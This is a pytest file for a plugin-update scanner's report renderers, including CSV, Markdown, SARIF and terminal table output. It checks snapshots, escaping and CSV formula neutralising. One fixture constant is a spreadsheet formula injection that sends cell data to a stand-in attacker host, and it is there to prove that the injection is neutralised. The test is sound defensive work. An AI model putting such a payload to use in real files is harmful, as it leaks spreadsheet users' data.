"""Report renderers: each format against a saved snapshot, plus the properties each format must keep."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from powerx_governance.reports import ReportFormat, print_table, render
from powerx_governance.reports.csv_report import COLUMNS, neutralise
from powerx_governance.reports.markdown_report import NO_FINDINGS, escape, percent
from powerx_governance.reports.sarif_report import LIFECYCLE_RULE, OUTDATED_RULE

SNAPSHOTS = Path(__file__).parent / "snapshots"
SNAPSHOT_SUFFIXES = {
    ReportFormat.TABLE: "txt",
    ReportFormat.JSON: "json",
    ReportFormat.JSONL: "jsonl",
    ReportFormat.CSV: "csv",
    ReportFormat.MARKDOWN: "md",
    ReportFormat.SARIF: "sarif.json",
}
ACME = "7d0e5a52-3c1f-4f7e-9a51-0c8f1d2b9e11"
GLOBEX = "0b6f3c1e-8a2d-4e5f-9b7c-1d2e3f4a5b6c"
INITECH = "5c9d8e7f-6a5b-4c3d-8e2f-1a0b9c8d7e6f"
PIPE_PLUGIN = "com.example.reports|pivot"
HYPERLINK = '=HYPERLINK("https://evil.invalid/?d="&A1,"details")'


def assert_snapshot(name: str, actual: str) -> None:
    """Compare text with a saved snapshot byte for byte; UPDATE_SNAPSHOTS=1 rewrites it instead."""
    path = SNAPSHOTS / name
    if os.environ.get("UPDATE_SNAPSHOTS") == "1":
        path.write_bytes(actual.encode())
        return
    assert path.exists(), f"missing snapshot {path}: run the tests with UPDATE_SNAPSHOTS=1"
    assert actual == path.read_bytes().decode()


def print_to_text(report: dict[str, Any], *, limit: int | None) -> str:
    """Print the table to an uncoloured in-memory console and return what was printed."""
    output = io.StringIO()
    print_table(report, Console(file=output, width=160, color_system=None), limit=limit)
    return output.getvalue()


def _critical_partial() -> dict[str, Any]:
    return {
        "tenant_uuid": ACME,
        "tenant_key": "acme",
        "plugin_id": "com.powerx.plugins.crm",
        "current_version": "2.3.0",
        "target_version": "2.4.1",
        "latest_version": "2.6.0",
        "update_type": "minor",
        "risk_level": "critical",
        "priority": 97,
        "action": "upgrade_now",
        "critical_patch": True,
        "partial": True,
        "sla_deadline": "2026-11-30T08:00:00Z",
        "advisories": [
            {
                "id": "PXSA-2026-0001",
                "cvss": 9.8,
                "severity": "critical",
                "fixed_in": "2.4.1",
                "summary": "Remote code execution in CRM import",
                "aliases": ["CVE-2026-1111"],
            },
            {"id": "PXSA-2026-0002", "cvss": 5.3, "severity": "medium", "fixed_in": None},
        ],
        "changelog": ["### Fixed\n- import sanitises formulas"],
        "reasons": ["PXSA-2026-0001 is critical and fixed in 2.4.1", "PXSA-2026-0002 has no fix yet"],
        "rule_ids": ["critical-security"],
        "core_version": "1.24.0",
        "channel": "stable",
    }


def _deprecated_schedule() -> dict[str, Any]:
    return {
        "tenant_uuid": GLOBEX,
        "tenant_key": "@globex",
        "plugin_id": "com.powerx.plugins.legacy-mail",
        "current_version": "1.2.0",
        "target_version": "1.2.3",
        "latest_version": "1.2.3",
        "update_type": "patch",
        "risk_level": "none",
        "priority": 40,
        "action": "schedule",
        "critical_patch": False,
        "partial": False,
        "sla_deadline": None,
        "advisories": [],
        "changelog": [],
        "reasons": ["release 1.2.0 is deprecated"],
        "rule_ids": ["lifecycle-deprecated"],
        "replacement": "com.powerx.plugins.mail",
        "lifecycle": "deprecated",
    }


def _review_without_target() -> dict[str, Any]:
    return {
        "tenant_uuid": INITECH,
        "plugin_id": "com.powerx.plugins.billing",
        "current_version": "3.1.0",
        "target_version": None,
        "latest_version": None,
        "update_type": "none",
        "risk_level": "medium",
        "priority": 35,
        "action": "review",
        "critical_patch": False,
        "partial": False,
        "sla_deadline": "2026-12-29T08:00:00Z",
        "advisories": [{"id": "PXSA-2026-0003", "cvss": None, "severity": "medium", "fixed_in": None}],
        "changelog": [],
        "reasons": ["no fix available\r\nwatch PXSA-2026-0003"],
        "rule_ids": ["no-fix"],
        "compatibility": ["px.host.v1: warn — billing 3.x untested on 1.25"],
    }


def _hostile_outdated() -> dict[str, Any]:
    return {
        "tenant_uuid": ACME,
        "tenant_key": "acme",
        "plugin_id": PIPE_PLUGIN,
        "current_version": "1.4.0",
        "target_version": "1.5.0",
        "latest_version": "1.5.0",
        "update_type": "minor",
        "risk_level": "none",
        "priority": 10,
        "action": "review",
        "critical_patch": False,
        "partial": False,
        "sla_deadline": None,
        "advisories": [],
        "changelog": ["- faster pivots"],
        "reasons": [HYPERLINK, "minor update [/red] available"],
        "rule_ids": ["-minor-review"],
    }


@pytest.fixture
def report() -> dict[str, Any]:
    """A small scan report exercising every renderer's edge cases."""
    return {
        "schema": "powerx.scan-report/v1",
        "scan_id": "scan-2026-11-29T08-00-00Z",
        "generated_at": "2026-11-29T08:00:05Z",
        "coverage": {"tenants_total": 4, "tenants_scanned": 3, "installations": 57, "rate": 0.75},
        "errors": [
            {
                "source": "file:manifests/hooli.yaml",
                "tenant_uuid": "9f8e7d6c",
                "error": "bad [/bold] manifest",
            },
            {"source": "catalog", "tenant_uuid": None, "error": "timeout after 3 attempts"},
        ],
        "findings": [
            _critical_partial(),
            _deprecated_schedule(),
            _review_without_target(),
            _hostile_outdated(),
        ],
    }


@pytest.fixture
def empty_report(report: dict[str, Any]) -> dict[str, Any]:
    """The same scan with every installation clean and no errors."""
    return report | {"findings": [], "errors": []}


@pytest.mark.parametrize("fmt", list(ReportFormat))
def test_format_matches_snapshot(report: dict[str, Any], fmt: ReportFormat) -> None:
    assert_snapshot(f"scan_report.{SNAPSHOT_SUFFIXES[fmt]}", render(report, fmt))


@pytest.mark.parametrize("fmt", list(ReportFormat))
def test_empty_report_matches_snapshot(empty_report: dict[str, Any], fmt: ReportFormat) -> None:
    assert_snapshot(f"empty_report.{SNAPSHOT_SUFFIXES[fmt]}", render(empty_report, fmt))


@pytest.mark.parametrize("fmt", list(ReportFormat))
def test_renderers_do_not_mutate_the_report(report: dict[str, Any], fmt: ReportFormat) -> None:
    before = copy.deepcopy(report)
    render(report, fmt)
    assert report == before


@pytest.mark.parametrize("fmt", list(ReportFormat))
def test_renderers_tolerate_missing_optional_keys(fmt: ReportFormat) -> None:
    minimal = {
        "findings": [
            {"tenant_uuid": ACME, "plugin_id": "com.powerx.plugins.crm", "advisories": [{"id": "X-1"}]}
        ]
    }
    assert "com.powerx.plugins.crm" in render(minimal, fmt)


def test_json_round_trips_header_first_summary_after_the_streamed_findings(report: dict[str, Any]) -> None:
    text = render(report, ReportFormat.JSON)
    assert text.endswith("}\n")
    assert json.loads(text) == {**report, "warnings": []}
    assert list(json.loads(text)) == [
        "schema",
        "scan_id",
        "generated_at",
        "findings",
        "coverage",
        "errors",
        "warnings",
    ]


def test_jsonl_is_one_finding_per_line_then_the_summary(report: dict[str, Any]) -> None:
    lines = [json.loads(line) for line in render(report, ReportFormat.JSONL).splitlines()]
    assert lines[:-1] == report["findings"]
    assert lines[-1] == {
        "schema": "powerx.scan-summary/v1",
        "scan_id": report["scan_id"],
        "generated_at": report["generated_at"],
        "coverage": report["coverage"],
        "errors": report["errors"],
        "warnings": [],
    }


def test_csv_parses_back_to_one_row_per_finding(report: dict[str, Any]) -> None:
    rows = list(csv.reader(io.StringIO(render(report, ReportFormat.CSV), newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 1 + len(report["findings"])
    assert {len(row) for row in rows} == {len(COLUMNS)}


def test_csv_neutralises_formula_cells(report: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(render(report, ReportFormat.CSV), newline="")))
    hostile = rows[3]
    assert hostile["reasons"] == f"'{HYPERLINK} | minor update [/red] available"
    assert hostile["rule_ids"] == "'-minor-review"
    assert rows[1]["tenant_key"] == "'@globex"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_csv_keeps_numbers_and_flags_readable(report: dict[str, Any]) -> None:
    first = next(csv.DictReader(io.StringIO(render(report, ReportFormat.CSV), newline="")))
    assert (first["priority"], first["max_cvss"], first["critical_patch"]) == ("97", "9.8", "true")
    assert first["advisories"] == "PXSA-2026-0001 PXSA-2026-0002"


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_quotes_every_formula_trigger(trigger: str) -> None:
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("text", ["", "2.4.1", "acme", "a=b", " =1"])
def test_neutralise_leaves_harmless_text_alone(text: str) -> None:
    assert neutralise(text) == text


def test_markdown_escapes_pipes_and_line_breaks(report: dict[str, Any]) -> None:
    text = render(report, ReportFormat.MARKDOWN)
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) == 2 + len(report["findings"])
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in table} == {13}
    assert r"com.example.reports\|pivot" in text
    assert "no fix available<br>watch PXSA-2026-0003" in text
    assert r"minor update \[/red\] available" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("com.example.crm 2.4.1 upgrade_now", "com.example.crm 2.4.1 upgrade_now"),
        ("", ""),
        ("a|b", r"a\|b"),
        ("[x](y) <b> `c` *d* \\e", r"\[x\](y) \<b\> \`c\` \*d\* \\e"),
        ("one\ntwo\r\nthree\rfour", "one<br>two<br>three<br>four"),
        ("only a line\n", "only a line<br>"),
    ],
)
def test_markdown_cells_escape_what_would_break_the_table(text: str, expected: str) -> None:
    assert escape(text) == expected


def test_markdown_summary_counts_and_coverage(report: dict[str, Any]) -> None:
    text = render(report, ReportFormat.MARKDOWN)
    assert "3 of 4 tenants scanned (75.0 %), 57 installations" in text
    assert "critical 1 · high 0 · medium 1 · low 0 · none 2" in text
    assert "upgrade_now 1 · schedule 1 · review 2 · blocked 0 · none 0" in text
    assert "- catalog: timeout after 3 attempts" in text


def test_markdown_without_findings_says_so(empty_report: dict[str, Any]) -> None:
    text = render(empty_report, ReportFormat.MARKDOWN)
    assert NO_FINDINGS in text
    assert "No errors." in text


@pytest.mark.parametrize(
    ("rate", "expected"), [(0.75, "75.0 %"), (0.57, "57.0 %"), (0.99995, "99.9 %"), (1, "100.0 %")]
)
def test_percent_never_rounds_a_partial_scan_up(rate: float, expected: str) -> None:
    assert percent(rate) == expected


def _sarif(report: dict[str, Any]) -> dict[str, Any]:
    log: dict[str, Any] = json.loads(render(report, ReportFormat.SARIF))
    return log


def test_sarif_is_structurally_valid(report: dict[str, Any]) -> None:
    log = _sarif(report)
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert log["version"] == "2.1.0"
    [run] = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    assert run["tool"]["driver"]["name"] == "powerx-version-governance"
    assert len({rule["id"] for rule in rules}) == len(rules)
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in {"error", "warning", "note"}
        assert result["message"]["text"]
        [location] = result["locations"]
        [logical] = location["logicalLocations"]
        properties = result["properties"]
        expected_name = f"{properties['tenant_uuid']}/{properties['plugin_id']}"
        assert logical == {"fullyQualifiedName": expected_name, "kind": "module"}


def test_sarif_results_rules_and_levels(report: dict[str, Any]) -> None:
    [run] = _sarif(report)["runs"]
    assert [(r["ruleId"], r["level"]) for r in run["results"]] == [
        ("PXSA-2026-0001", "error"),
        ("PXSA-2026-0002", "warning"),
        (LIFECYCLE_RULE, "note"),
        ("PXSA-2026-0003", "warning"),
        (OUTDATED_RULE, "note"),
    ]
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    assert rules["PXSA-2026-0001"]["properties"]["security-severity"] == "9.8"
    assert rules["PXSA-2026-0001"]["shortDescription"]["text"] == "Remote code execution in CRM import"
    assert "security-severity" not in rules["PXSA-2026-0003"]["properties"]
    assert run["results"][0]["message"]["text"].startswith(
        "com.powerx.plugins.crm 2.3.0 → 2.4.1 (action: upgrade_now). PXSA-2026-0001 (critical, CVSS 9.8)"
    )


def test_sarif_fingerprints_are_stable_and_distinct(report: dict[str, Any]) -> None:
    fingerprints = [r["partialFingerprints"] for r in _sarif(report)["runs"][0]["results"]]
    report["findings"][0]["current_version"] = "2.3.1"
    assert fingerprints == [r["partialFingerprints"] for r in _sarif(report)["runs"][0]["results"]]
    assert len({json.dumps(f, sort_keys=True) for f in fingerprints}) == len(fingerprints)


def test_sarif_reports_scan_errors_as_notifications(
    report: dict[str, Any], empty_report: dict[str, Any]
) -> None:
    [invocation] = _sarif(report)["runs"][0]["invocations"]
    assert invocation["executionSuccessful"] is False
    assert [n["level"] for n in invocation["toolExecutionNotifications"]] == ["error", "error"]
    assert _sarif(empty_report)["runs"][0]["invocations"][0]["executionSuccessful"] is True


def test_table_truncates_to_limit(report: dict[str, Any]) -> None:
    text = print_to_text(report, limit=1)
    assert "com.powerx.plugins.crm" in text
    assert "legacy-mail" not in text
    assert "Showing the 1 findings of highest priority of 4." in text
    assert "--all" in text


def test_table_rejects_negative_limit(report: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="limit"):
        print_to_text(report, limit=-1)


def test_table_prints_data_literally_and_colours_risk_on_terminals(report: dict[str, Any]) -> None:
    output = io.StringIO()
    print_table(report, Console(file=output, width=160, force_terminal=True, color_system="standard"))
    assert "\x1b[1;31mcritical\x1b[0m" in output.getvalue()
    assert "bad [/bold] manifest" in output.getvalue()


def test_table_without_findings_says_so(empty_report: dict[str, Any]) -> None:
    assert NO_FINDINGS in render(empty_report, ReportFormat.TABLE)
